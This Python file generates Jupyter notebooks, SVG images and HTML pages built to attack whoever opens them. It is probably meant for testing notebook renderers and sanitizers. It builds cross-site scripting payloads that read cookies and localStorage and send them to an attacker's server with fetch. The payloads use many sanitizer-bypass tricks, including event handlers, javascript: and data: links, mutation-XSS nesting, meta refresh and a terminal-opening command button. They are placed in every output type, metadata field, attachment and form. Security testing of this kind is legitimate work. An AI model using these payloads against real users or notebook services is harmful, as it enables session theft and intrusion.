"""A notebook and files that attack whoever opens them. Each payload says its name to a server of the attacker."""

import base64
import json
import pathlib
import urllib.parse


def script(name, evil):
    """JavaScript that tells the attacker where it runs and what it reaches there."""
    return (
        "(() => { const seen = {name: '%s', origin: self.origin};"
        " try { seen.cookie = document.cookie } catch (e) { seen.cookie = 'refused' }"
        " try { seen.stored = Object.keys(localStorage).length } catch (e) { seen.stored = 'refused' }"
        " try { top.pwned = '%s' } catch (e) { seen.top = 'refused' }"
        " fetch('%sran?' + new URLSearchParams(seen), {mode: 'no-cors'}) })()" % (name, name, evil)
    )


def handlers(name, evil):
    """HTML that runs a script in each way that sanitizers have missed somewhere."""
    run = script(name, evil).replace('"', "&quot;")
    inner = urllib.parse.quote(f"<script>{script(name, evil)}</script>")
    return "\n".join(
        [
            f"<script>{script(name, evil)}</script>",
            f'<img src=x onerror="{run}">',
            f'<svg onload="{run}"><animate onbegin="{run}" attributeName=x dur=1s /></svg>',
            f'<svg><a xlink:href="javascript:{run}"><text y=20>link</text></a></svg>',
            f'<a class=hostile href="javascript:{run}">link</a>',
            f'<a class=hostile href="java&#10;script:{run}">link</a>',
            f'<a class=hostile href="data:text/html,{inner}">link</a>',
            f'<iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>',
            f'<iframe src="data:text/html,{inner}"></iframe>',
            f'<object data="data:text/html,{inner}"></object><embed src="data:text/html,{inner}">',
            f'<details open ontoggle="{run}"><summary>x</summary></details>',
            f'<video><source onerror="{run}"></video><body onload="{run}">',
            f'<form action="javascript:{run}"><button class=hostile>button</button></form>',
            f'<math><mtext><table><mglyph><style><img src=x onerror="{run}"></style></mglyph></table></mtext></math>',
            f'<noscript><p title="</noscript><img src=x onerror={run!r}>"></noscript>',
            f'<style>@import "{evil}style?{name}";</style>',
            f'<link rel=stylesheet href="{evil}style?{name}"><base href="{evil}">',
            f'<meta http-equiv=refresh content="0;url={evil}moved?{name}">',
            '<button class=hostile data-commandlinker-command="terminal:create-new">button</button>',
            f'<form action="{evil}form"><input name=q autofocus onfocus="{run}"></form>',
        ]
    )


def svg(name, evil):
    """An SVG image with scripts."""
    run = script(name, evil)
    page = f'<body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{run}"/></body>'
    inner = f"<script>{run}</script><foreignObject>{page}</foreignObject>"
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{run}">{inner}</svg>'


def outputs(evil):
    """Outputs by the name of the attack."""

    def data(bundle):
        return {"output_type": "display_data", "data": bundle, "metadata": {"isolated": False, "trusted": True}}

    def html(name):
        return handlers(name, evil)

    widget = {"model_id": html("widget"), "version_major": 2, "version_minor": 0}
    vega = {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "width": 9,
        "height": 9,
        "marks": [
            {
                "type": "text",
                "encode": {
                    "enter": {"href": {"value": f"javascript:{script('vega', evil)}"}, "text": {"value": "link"}}
                },
            }
        ],
    }
    error = {
        "output_type": "error",
        "ename": html("ename"),
        "evalue": html("evalue"),
        "traceback": [html("traceback"), "\x1b[31m" + html("traceback-ansi") + "\x1b[0m"],
    }
    return {
        "html": data({"text/html": html("html")}),
        "svg": data({"image/svg+xml": svg("svg", evil)}),
        "markdown": data(
            {"text/markdown": html("markdown-output") + f"\n[link](javascript:{script('markdown-link', evil)})"}
        ),
        "javascript": data({"application/javascript": script("javascript", evil)}),
        "text/javascript": data({"text/javascript": script("text-javascript", evil)}),
        "latex": data(
            {
                "text/latex": r"$\href{javascript:%s}{link}$ $\style{background:url(%sstyle?latex)}{x}$"
                % (script("latex", evil).replace("{", r"\{").replace("}", r"\}"), evil)
            }
        ),
        "json": data({"application/json": {html("json-key"): html("json")}}),
        "png": data({"image/png": 'x" onerror="' + script("png", evil)}),
        "unknown": data({"text/x-unknown": html("unknown"), "text/plain": html("plain")}),
        "widget": data({"application/vnd.jupyter.widget-view+json": widget}),
        "vega": data({"application/vnd.vega.v5+json": vega}),
        "geojson": data(
            {"application/geo+json": {"type": "Feature", "properties": {"name": html("geojson")}, "geometry": None}}
        ),
        "stream": {
            "output_type": "stream",
            "name": "stderr",
            "text": html("stream")
            + f"\njavascript:{script('autolink', evil)} \x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
        },
        "error": error,
    }


def notebook(evil):
    """The notebook: an attack in each output, in Markdown, in attachments, in metadata and in a form."""

    def html(name):
        return handlers(name, evil)

    cells = [
        {
            "cell_type": "code",
            "id": f"c{at}",
            "execution_count": 1,
            "source": name,
            "outputs": [output],
            "metadata": {"name": html("cell-name"), "tags": [html("tag")], "trusted": True},
        }
        for at, (name, output) in enumerate(outputs(evil).items())
    ]
    attachment = base64.b64encode(svg("attachment", evil).encode()).decode()
    cells += [
        {
            "cell_type": "markdown",
            "id": "m1",
            "metadata": {"trusted": True},
            "source": html("markdown") + f"\n\n# {html('heading')}\n\n![x](attachment:a.svg) "
            f"[link](javascript:{script('markdown-cell-link', evil)}) ![pixel]({evil}pixel)",
            "attachments": {"a.svg": {"image/svg+xml": attachment}},
        },
        {
            "cell_type": "code",
            "id": "f1",
            "execution_count": None,
            "outputs": [],
            "metadata": {},
            "source": f"#@title {html('form-title').replace(chr(10), ' ')}\n"
            f"x = 1  #@param [{json.dumps(html('form').replace(chr(10), ' '))}]\n"
            f"#@markdown {html('form-text').replace(chr(10), ' ')}",
        },
        {"cell_type": "raw", "id": "r1", "metadata": {"format": "text/html"}, "source": html("raw")},
    ]
    metadata = {
        "kernelspec": {"name": "python3", "display_name": html("kernel-name"), "language": html("language")},
        "language_info": {"name": html("language-info"), "codemirror_mode": html("mode"), "file_extension": ".py"},
        "title": html("title"),
        "authors": [{"name": html("author")}],
        "accelerator": html("accelerator"),
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_module": evil, "state": {}}}}},
    }
    return {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}


def exported(evil):
    """A notebook of those outputs that exports show as HTML."""
    chosen = ("html", "svg", "markdown", "javascript")
    cells = [
        {"cell_type": "code", "id": name, "execution_count": 1, "metadata": {}, "source": "", "outputs": [output]}
        for name, output in outputs(evil).items()
        if name in chosen
    ]
    return {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def page(name, evil, server):
    """A page of the drive that tries what its origin may do."""
    own = module("hostile_own.js", NAME=name, EVIL=evil, LAB=server)
    return f"<!doctype html><meta charset=utf-8><script>{script(name, evil)};\n{own}</script>{handlers(name, evil)}"


def module(file, **constants):
    """A script of this folder with its constants."""
    text = pathlib.Path(__file__).with_name(file).read_text()
    return "".join(f"const {name} = {json.dumps(value)};\n" for name, value in constants.items()) + text
